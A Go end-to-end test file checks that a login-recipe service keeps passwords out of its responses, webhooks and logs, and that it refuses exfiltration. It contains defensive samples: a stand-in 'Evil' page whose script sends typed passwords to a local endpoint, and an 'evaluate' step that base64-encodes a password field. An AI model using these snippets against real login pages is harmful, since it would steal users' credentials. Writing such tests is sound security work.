package e2e

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// encodingsOf lists the forms a secret may take in a message: raw, URL
// query-, path- and form-escaped, JSON- and HTML-escaped, hex, and base64
// (both alphabets) at the three alignments it can have inside a larger blob.
// The test computes them itself, independently of the masking code.
func encodingsOf(secret string) map[string]string {
	out := map[string]string{
		"raw": secret, "query": url.QueryEscape(secret), "path": url.PathEscape(secret),
		"query %20": strings.ReplaceAll(url.QueryEscape(secret), "+", "%20"),
		"form":      url.Values{"p": {secret}}.Encode()[2:],
		"html":      html.EscapeString(secret), "hex": hex.EncodeToString([]byte(secret)),
		"HEX": strings.ToUpper(hex.EncodeToString([]byte(secret))),
	}
	j, _ := json.Marshal(secret)
	out["json"] = string(j[1 : len(j)-1])
	var sb strings.Builder
	enc := json.NewEncoder(&sb)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(secret)
	out["json unescaped html"] = strings.TrimSpace(sb.String())[1 : len(strings.TrimSpace(sb.String()))-1]
	for name, e := range map[string]*base64.Encoding{"b64": base64.RawStdEncoding, "b64url": base64.RawURLEncoding} {
		for k := 0; k < 3; k++ {
			// k bytes before the secret: the characters that depend only on it.
			s := e.EncodeToString(append(make([]byte, k), secret...))
			first, last := (8*k+5)/6, (8*(k+len(secret)))/6
			out[fmt.Sprintf("%s+%d", name, k)] = s[first:last]
		}
	}
	return out
}

// leaks names the encodings of secret found in text.
func leaks(text, secret string) []string {
	var found []string
	for name, enc := range encodingsOf(secret) {
		if strings.Contains(text, enc) {
			found = append(found, name)
		}
	}
	return found
}

// getLoginApp is a site whose login form submits by GET: a wrong password
// ends on /login?user=alice&password=<form-encoded>. /home needs the sid
// cookie (a wrong one redirects to /login?next=/home).
func getLoginApp(t *testing.T, password string) string {
	t.Helper()
	mux := http.NewServeMux()
	form := `<!doctype html><html><head><title>Login</title></head><body><h1>Sign in</h1>%s
<form method="get" action="/login"><input id="username" name="user"><input id="password" name="password" type="password">
<button id="submit" type="submit">Sign in</button></form></body></html>`
	mux.HandleFunc("/login", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if pw, ok := r.URL.Query()["password"]; ok {
			if pw[0] == password {
				http.SetCookie(w, &http.Cookie{Name: "sid", Value: "good", Path: "/"})
				http.Redirect(w, r, "/home", http.StatusFound)
				return
			}
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprintf(w, form, `<p id="error">Wrong password</p>`)
			return
		}
		fmt.Fprintf(w, form, "")
	})
	mux.HandleFunc("/home", func(w http.ResponseWriter, r *http.Request) {
		if c, err := r.Cookie("sid"); err != nil || c.Value != "good" {
			http.Redirect(w, r, "/login?next=/home", http.StatusFound)
			return
		}
		fmt.Fprint(w, `<!doctype html><title>Home</title><p id="whoami">alice</p>`)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL
}

// hookReceiver records every webhook body it gets.
type hookReceiver struct {
	mu     sync.Mutex
	bodies []string
	URL    string
}

func newHookReceiver(t *testing.T) *hookReceiver {
	h := &hookReceiver{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		h.mu.Lock()
		h.bodies = append(h.bodies, string(body))
		h.mu.Unlock()
	}))
	t.Cleanup(srv.Close)
	h.URL = srv.URL
	return h
}

// wait returns every body once one holds each of the want strings.
func (h *hookReceiver) wait(t *testing.T, timeout time.Duration, want ...string) string {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		h.mu.Lock()
		got := strings.Join(h.bodies, "\n")
		h.mu.Unlock()
		ok := true
		for _, w := range want {
			ok = ok && strings.Contains(got, w)
		}
		if ok {
			return got
		}
		if time.Now().After(deadline) {
			t.Fatalf("webhooks %v not received within %s: %s", want, timeout, got)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

type failedJobView struct {
	Status string `json:"status"`
	Error  *struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
	Result *struct {
		FinalURL   string `json:"final_url"`
		HTTPStatus int    `json:"http_status"`
	} `json:"result"`
}

// TestAuthSecretNoEncodingLeaves: a login form that submits by GET with a
// wrong password ends on /login?…&password=<form-encoded secret>. No
// encoding of that secret reaches the /test answer, the profile's
// last_failure and log, the job's error, the auth_profile.failed webhook or
// the api and worker logs; the job's auth_failed message does not end with a
// redundant ": auth failed"; and the job, logged out and then failing to log
// in again, keeps its attempt's result.
func TestAuthSecretNoEncodingLeaves(t *testing.T) {
	t.Parallel()
	// Characters whose encodings all differ from the raw form.
	wrong := `p w+/&="<>'%?#;` + randomPassword()
	site := getLoginApp(t, "the-real-password")
	s := startStack(t, "SNAPQ_SECRET_KEY="+secretKey(t))
	u, _ := url.Parse(site)
	prof := map[string]any{
		"name": "getform", "origins": []string{site}, "login_url": site + "/login",
		"steps": []map[string]any{
			{"type": "type", "selector": "#username", "text": "alice"},
			{"type": "type", "selector": "#password", "secret": "password"},
			{"type": "click", "selector": "#submit"},
			{"type": "wait_for_navigation"},
		},
		"success":    map[string]any{"url_prefix": site + "/home"},
		"logged_out": map[string]any{"url_prefix": site + "/login"},
		"secrets":    map[string]any{"password": wrong},
		// A login that no longer works: the job is seeded, finds itself
		// logged out, and its new login fails.
		"storage_state": map[string]any{"cookies": []map[string]any{{"name": "sid", "value": "stale",
			"domain": u.Hostname(), "path": "/", "expires": -1}}, "origins": []any{}},
	}
	var p profileResp
	if code := s.do("POST", "/v1/auth-profiles", prof, &p); code != http.StatusCreated {
		t.Fatalf("create: %d", code)
	}
	var test json.RawMessage
	if code := s.do("POST", "/v1/auth-profiles/"+p.ID+"/test", nil, &test); code != http.StatusOK {
		t.Fatalf("test login: %d %s", code, test)
	}
	var tr struct {
		OK    bool   `json:"ok"`
		Error string `json:"error"`
	}
	_ = json.Unmarshal(test, &tr)
	if tr.OK || tr.Error == "" {
		t.Fatalf("the wrong password logged in: %s", test)
	}
	hooks := newHookReceiver(t)
	var batch batchResp
	if code := s.do("POST", "/v1/batches", map[string]any{"urls": []string{site + "/home"},
		"webhook": map[string]any{"url": hooks.URL, "secret": "0123456789abcdef0123"},
		"options": map[string]any{"auth_profile": "getform"}}, &batch); code != http.StatusAccepted {
		t.Fatalf("submit: %d", code)
	}
	s.waitBatch(batch.ID, 90*time.Second)
	body := hooks.wait(t, 60*time.Second, `"type":"auth_profile.failed"`, `"type":"batch.completed"`)
	var jobRaw json.RawMessage
	s.do("GET", "/v1/jobs/"+batch.Jobs[0].ID, nil, &jobRaw)
	var job failedJobView
	_ = json.Unmarshal(jobRaw, &job)
	var view json.RawMessage
	s.do("GET", "/v1/auth-profiles/"+p.ID, nil, &view)

	places := map[string]string{"/test answer": string(test), "job": string(jobRaw), "profile view": string(view),
		"webhooks": body, "api log": s.procs.Log("api", 64<<20), "worker log": s.procs.Log("worker", 64<<20)}
	for name, text := range places {
		if found := leaks(text, wrong); len(found) > 0 {
			t.Errorf("the %s holds the secret as %v", name, found)
		}
	}
	t.Logf("test answer: %s", test)
	if job.Status != "failed" || job.Error == nil || job.Error.Code != "auth_failed" {
		t.Fatalf("job: %s", jobRaw)
	}
	if strings.HasSuffix(job.Error.Message, ": auth failed") {
		t.Errorf("the auth_failed message ends with a redundant code: %q", job.Error.Message)
	}
	if job.Result == nil || !strings.HasPrefix(job.Result.FinalURL, site+"/login") || job.Result.HTTPStatus != 200 {
		t.Errorf("the logged-out job whose new login failed lost its attempt's result: %s", jobRaw)
	}
}

// TestAuthSecretWriteOnly: the PATCH-then-test exfiltration of issue 25 is
// refused (evaluate is no recipe step; a PATCH that moves the recipe drops
// the secrets it does not send again), and a recipe that wanders to another
// origin is refused before it types the secret there.
func TestAuthSecretWriteOnly(t *testing.T) {
	t.Parallel()
	password := randomPassword()
	_, site := loginApp(t, password, time.Hour)
	// The foreign origin (another port): it records every value typed into
	// its password field, and every query it is sent.
	var (
		mu   sync.Mutex
		seen []string
	)
	evilMux := http.NewServeMux()
	evilMux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.String())
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>Evil</title><input id="password" type="password"
oninput="fetch('/typed?v='+encodeURIComponent(this.value))"><p id="whoami">x</p>`)
	})
	evil := httptest.NewServer(evilMux)
	t.Cleanup(evil.Close)
	// A page on the profile's origin with a link to the foreign one.
	goMux := http.NewServeMux()
	s := startStack(t, "SNAPQ_SECRET_KEY="+secretKey(t))

	var p profileResp
	if code := s.do("POST", "/v1/auth-profiles", recipe("shop", site, password), &p); code != http.StatusCreated {
		t.Fatalf("create: %d", code)
	}
	// 1. evaluate is no recipe step (nor screenshot): refused, naming it.
	var e errResp
	exfil := map[string]any{"origins": []string{evil.URL}, "login_url": evil.URL + "/login",
		"steps": []map[string]any{{"type": "type", "selector": "#password", "secret": "password"},
			{"type": "evaluate", "expression": "btoa(document.querySelector('#password').value)"}},
		"success": map[string]any{"selector": "#whoami"}}
	if code := s.do("PATCH", "/v1/auth-profiles/"+p.ID, exfil, &e); code != http.StatusBadRequest || !hasField(e, "steps[1].type") {
		t.Fatalf("PATCH with an evaluate step: %d %+v, want 400 naming steps[1].type", code, e.Error)
	}
	// 2. Moving the recipe elsewhere without sending the secret again: the
	// stored secret is dropped, so its reference is refused.
	exfil["steps"] = []map[string]any{{"type": "type", "selector": "#password", "secret": "password"}}
	if code := s.do("PATCH", "/v1/auth-profiles/"+p.ID, exfil, &e); code != http.StatusBadRequest || !hasField(e, "steps[0].secret") {
		t.Fatalf("PATCH moving the recipe without its secret: %d %+v, want 400 naming steps[0].secret", code, e.Error)
	}
	// ...and a PATCH of the origins alone drops it too.
	if code := s.do("PATCH", "/v1/auth-profiles/"+p.ID, map[string]any{"origins": []string{site, evil.URL}}, &e); code != http.StatusBadRequest ||
		!hasField(e, "steps[1].secret") {
		t.Fatalf("PATCH of origins without the secret: %d %+v, want 400 naming steps[1].secret", code, e.Error)
	}
	// The profile still logs in: nothing was changed.
	var test struct {
		OK    bool   `json:"ok"`
		Error string `json:"error"`
	}
	if code := s.do("POST", "/v1/auth-profiles/"+p.ID+"/test", nil, &test); code != http.StatusOK || !test.OK {
		t.Fatalf("test login after refused PATCHes: %d %+v", code, test)
	}
	// 3. A recipe on the profile's origin that follows a link to another
	// origin does not type the secret there.
	goMux.HandleFunc("/go", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!doctype html><title>Go</title><a id="away" href="%s/login">sign in</a>`, evil.URL)
	})
	gsrv := httptest.NewServer(goMux)
	t.Cleanup(gsrv.Close)
	wander := map[string]any{"origins": []string{gsrv.URL}, "login_url": gsrv.URL + "/go",
		"steps": []map[string]any{{"type": "click", "selector": "#away"}, {"type": "wait_for_navigation"},
			{"type": "type", "selector": "#password", "secret": "password"}},
		"success": map[string]any{"selector": "#whoami"}, "logged_out": map[string]any{},
		"secrets": map[string]any{"password": password}}
	if code := s.do("PATCH", "/v1/auth-profiles/"+p.ID, wander, &e); code != http.StatusOK {
		t.Fatalf("PATCH a recipe that sends its secret again: %d %+v", code, e.Error)
	}
	var raw json.RawMessage
	if code := s.do("POST", "/v1/auth-profiles/"+p.ID+"/test", nil, &raw); code != http.StatusOK {
		t.Fatalf("test: %d %s", code, raw)
	}
	_ = json.Unmarshal(raw, &test)
	mu.Lock()
	got := strings.Join(seen, "\n")
	mu.Unlock()
	if !strings.Contains(got, "/login") {
		t.Fatalf("the recipe never reached the foreign page: %q", got)
	}
	if strings.Contains(got, "/typed") || len(leaks(got, password)) > 0 {
		t.Fatalf("the secret was typed into a foreign origin: %s", got)
	}
	if test.OK || !strings.Contains(test.Error, "secret_origin_refused") || len(leaks(string(raw), password)) > 0 {
		t.Fatalf("test of the wandering recipe: %s, want ok:false naming secret_origin_refused", raw)
	}
}

func hasField(e errResp, field string) bool {
	if e.Error.Field == field {
		return true
	}
	for _, f := range e.Error.Fields {
		if f.Field == field {
			return true
		}
	}
	return false
}
